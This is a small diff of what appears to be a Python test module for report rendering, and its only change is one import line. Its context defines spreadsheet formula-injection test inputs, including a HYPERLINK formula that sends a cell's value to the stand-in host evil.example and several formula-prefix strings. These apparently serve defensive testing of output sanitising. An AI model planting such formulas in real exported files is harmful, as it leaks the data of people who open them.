@@ -9,7 +9,7 @@ from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
-from test_render_report import build, make_spec
+from report_support import build, make_spec
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 NOTES = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "plain", "a=b"]
